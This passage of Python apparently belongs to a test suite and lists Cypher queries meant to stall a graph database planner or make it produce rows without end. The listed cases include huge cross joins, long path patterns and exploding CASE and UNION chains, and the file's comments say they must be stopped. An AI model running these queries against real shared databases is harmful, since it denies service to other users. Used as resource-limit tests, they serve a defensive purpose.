    "to make the planner work without end before anything runs",
    (
        _joined("MATCH (e:Entity) WHERE ", _PAIRS, " AND ", " RETURN e"),
        _joined("MATCH (e:Entity) WHERE NOT (", [p.replace("OR", "AND") for p in _PAIRS], " OR ", ") RETURN e"),
        _joined("MATCH (e:Entity) WHERE ", [f"e.a{i} = 1" for i in range(25)], " XOR ", " RETURN e"),
        _joined("", ["MATCH (a)--(b)--(c) RETURN count(*) AS n"] * 90, " UNION ALL "),
        _repeated("MATCH (a)", " OPTIONAL MATCH (a)--(b)--(c)--(a)", 80, " RETURN count(*) AS n"),
        _joined("MATCH ", [f"(n{i})--(n{i * 7 % 30})" for i in range(60)], ", ", " RETURN count(*) AS n"),
        _repeated("WITH 1 AS x", " WITH x, x + 1 AS y WITH y AS x", 40, " RETURN x"),
        _repeated("RETURN ", "CASE ", 45, "1", " WHEN > 2 THEN 1 WHEN < 1 THEN 2 END"),
        "MATCH (e:Entity) RETURN CASE " + " + ".join(["e.articles"] * 200) + " WHEN > 1 THEN 1" * 200 + " END AS n",
    ),
)

STRANGE = (LOOPS, GROWTH, PARAMETERS, WALKS, REGULAR_EXPRESSIONS, SEARCHES, PLANNING)

# --- What may be asked, and must be stopped: rows without end are stopped between two of them.

ENDLESS = Kind(
    "endless rows",
    "to have rows made, sorted or counted without end",
    (
        "MATCH (a), (b), (c), (d), (e), (f) RETURN a.id AS id ORDER BY f.id, b.id, d.id",
        "MATCH (a), (b), (c), (d), (e), (f), (g) RETURN count(*) AS n",
        "UNWIND range(1, 9999) AS a UNWIND range(1, 9999) AS b UNWIND range(1, 9999) AS c RETURN sum(a * b * c) AS n",
        "UNWIND range(1, 9999) AS a UNWIND range(1, 9999) AS b WITH DISTINCT a * b AS p RETURN count(p) AS n",
        "UNWIND range(1, 9999) AS a UNWIND range(1, 9999) AS b RETURN size(collect({a: a, b: b})) AS n",
        "MATCH p = (a)-[*6]-(b)-[*6]-(c) RETURN count(p) AS n",
        "MATCH (a)--(b)--(c)--(d)--(e)--(f)--(g)--(h)--(i) RETURN count(DISTINCT i) AS n",
        "MATCH (a), (b), (c), (d), (e) WHERE a.id + b.id + c.id + d.id + e.id = 'x' RETURN a",
        "UNWIND range(1, 9999) AS a CALL (a) { MATCH (b), (c), (d) RETURN count(*) AS n } RETURN sum(n) AS n",
    ),
)
